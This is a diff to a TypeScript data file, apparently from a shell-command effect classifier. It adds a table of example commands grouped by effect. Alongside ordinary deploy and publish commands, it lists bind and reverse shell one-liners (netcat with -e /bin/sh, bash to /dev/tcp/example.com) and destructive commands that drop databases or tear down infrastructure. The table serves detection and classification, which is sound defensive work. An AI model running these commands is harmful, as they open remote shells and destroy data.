@@ -1,6 +1,7 @@
 // Commands with known effects: they read, write, delete or upload a file, contact a host, pass data on, or start external
 // code. Data only; whether a command has the effect in an event is shown by running it.
 
+import type { CallKind } from "../../language/call-kinds.ts";
 import type { FlowFrom, FlowTo } from "../../shell/flows/flows.ts";
 import type { External } from "../../shell/syntax/model.ts";
 
@@ -88,6 +89,17 @@ export const modeCommands: { readonly [mode: string]: readonly string[] } = {
   "set-id": ["chmod 4755 P", "chmod u+s P"],
   "world-writable set-id": ["chmod 6777 P"],
   other: ["chmod 644 P", "chmod u+x P"],
+};
+
+export const kindCommands: { readonly [K in CallKind]: readonly string[] } = {
+  "destroys-remote-data": ["aws s3 rb s3://data", "kubectl delete pod web", "terraform destroy"],
+  "drops-data": ["psql -c 'drop table users'", "rails db:drop", "redis-cli flushall"],
+  "opens-tunnel": ["ngrok http 3000", "ssh -R 8080:localhost:80 example.com", "cloudflared tunnel run web"],
+  "grants-access": ["gh ssh-key add key.pub", "npm owner add dev pkg", "az role assignment create --assignee dev"],
+  publishes: ["npm publish", "docker push acme/app", "cargo publish"],
+  deploys: ["terraform apply", "vercel deploy", "helm upgrade web ./chart"],
+  listens: ["nc -l 4444 -e /bin/sh", "nc -l 4444 | sh"],
+  "calls-out": ["nc -e /bin/sh example.com 4444", "bash -i >& /dev/tcp/example.com/4444 0>&1"],
 };
 
 /** Programs that run what follows them. */
